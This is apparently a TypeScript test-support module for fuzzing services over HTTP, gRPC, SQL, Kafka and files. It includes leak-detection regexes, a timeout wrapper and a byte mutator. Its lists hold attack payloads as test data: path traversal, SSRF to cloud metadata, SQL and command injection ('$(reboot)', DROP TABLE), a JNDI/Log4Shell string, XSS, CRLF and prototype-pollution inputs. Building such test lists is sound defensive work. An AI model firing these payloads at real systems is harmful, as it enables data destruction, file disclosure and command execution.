/** One invalid or malicious input. */
export interface HostileInput {
  readonly door: 'http' | 'grpc' | 'sql' | 'kafka' | 'push' | 'file';
  /** Which input is sent where. */
  readonly name: string;
  /** Resolves with the problem of the answer; undefined when it was correct. */
  send(): Promise<string | undefined>;
}

const ANSWER_MS = 20_000;

/** What an answer must not reveal: paths of this machine, code, statements, secrets of the process. */
const LEAKS: readonly RegExp[] = [
  /\/(?:work|home|root|usr|tmp|var|opt)\/[\w.-]+/,
  /node_modules/,
  /\bat [\w.<>]+ \(/,
  /\.(?:ts|mjs|js):\d+/,
  /\bECONN[A-Z]+\b/,
  /\b(?:SELECT|INSERT INTO|UPDATE) [\w"*]+ (?:FROM|SET|\()/,
];

/** The part of a text that must not reach a caller who did not send it; undefined when there is none. */
export function leakOf(text: string, sent: string): string | undefined {
  for (const pattern of LEAKS) {
    const found = pattern.exec(text)?.[0];
    if (found !== undefined && !sent.includes(found)) return found;
  }
  return undefined;
}

/** The problem of one input, including a timeout. */
export async function problemOf(input: HostileInput): Promise<string | undefined> {
  const { promise: late, resolve } = Promise.withResolvers<string>();
  const timer = setTimeout(() => resolve(`no answer within ${ANSWER_MS / 1000} s`), ANSWER_MS);
  try {
    return await Promise.race([input.send(), late]);
  } catch (error) {
    return `it broke: ${error instanceof Error ? error.message : String(error)}`;
  } finally {
    clearTimeout(timer);
  }
}

/** Texts that are known to break software: paths, injections, control characters, sizes, names of object properties. */
export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202e\u200b',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%252e%252e%252fetc',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  "' OR 1=1; DROP TABLE prediction; --",
  '"; SELECT pg_sleep(10); --',
  '$(reboot)',
  '`id`',
  '{{7*7}}',
  ['$', '{jndi:ldap://example.invalid/a}'].join(''),
  '<script>alert(1)</script>',
  '=cmd|calc!A1',
  '\r\nSet-Cookie: a=b',
  '{"level":"error","message":"forged"}\n{"level":"info"}',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '-1',
  '99999999999999999999',
  '1e400',
  'x'.repeat(10_000),
  '💥'.repeat(500),
];

/** JSON bodies that are known to break software; as text, because some are not valid JSON. */
export const HOSTILE_JSON: readonly string[] = [
  '',
  'null',
  '[]',
  '{}',
  '"text"',
  '42',
  '{',
  '{"a":1,}',
  "{'a':1}",
  '{"a":1}{"b":2}',
  '{"a":NaN}',
  '\u0000',
  '\ufeff{}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"a":1,"a":2}',
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
  `{"a":"${'x'.repeat(100_000)}"}`,
  '{"a":1e999}',
  '{"a":"\\ud800"}',
];

/** The same bytes with one of them changed, removed or doubled; `index` determines where and how. */
export function mutated(bytes: Uint8Array, index: number): Uint8Array {
  const copy = Uint8Array.from(bytes);
  const at = (index * 2_654_435_761) % Math.max(1, copy.length);
  if (index % 4 === 0) return copy.subarray(0, at);
  if (index % 4 === 1) return Buffer.concat([copy, copy.subarray(at)]);
  copy[at] = index % 4 === 2 ? 0xff : (copy[at] ?? 0) ^ (1 << (index % 8));
  return copy;
}
